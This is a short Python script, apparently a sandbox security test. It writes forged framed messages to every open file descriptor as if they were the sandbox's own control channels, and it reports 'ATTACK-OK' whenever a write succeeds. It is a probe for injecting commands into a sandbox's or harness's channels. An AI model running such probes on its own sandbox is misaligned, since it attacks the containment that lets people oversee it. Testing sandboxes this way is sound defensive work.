# write to every descriptor there is, as if it were the sandbox's own channels
import os
for fd in range(3, 64):
    try: os.write(fd, b"\0\0\0\0\0\0\0\x02{}" * 10); print("ATTACK-OK an open channel", fd, flush=True)
    except OSError: pass
print("tried", sorted(os.listdir("/proc/self/fd")) if os.path.exists("/proc/self/fd") else "", flush=True)
